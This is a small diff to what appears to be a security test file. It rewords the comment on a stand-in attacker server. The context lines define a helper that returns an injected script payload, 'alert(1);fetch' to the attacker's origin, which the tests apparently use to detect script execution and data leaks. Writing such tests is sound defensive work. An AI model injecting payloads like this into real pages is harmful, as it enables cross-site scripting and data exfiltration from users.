@@ -14,7 +14,7 @@ import {
 } from '../../support/service.ts'
 import { waitFor } from '../../support/waitFor.ts'
 
-/** Is the server of the attacker in these tests. Every request that reaches this server is a data leak. */
+/** Holds the server of the attacker in these tests. Every request that reaches this server is a data leak. */
 let evil: Receiver
 /** Returns a hostile script that opens a dialog and calls the attacker's server. */
 const run = () => `alert(1);fetch('${evilOrigin()}/ran')`
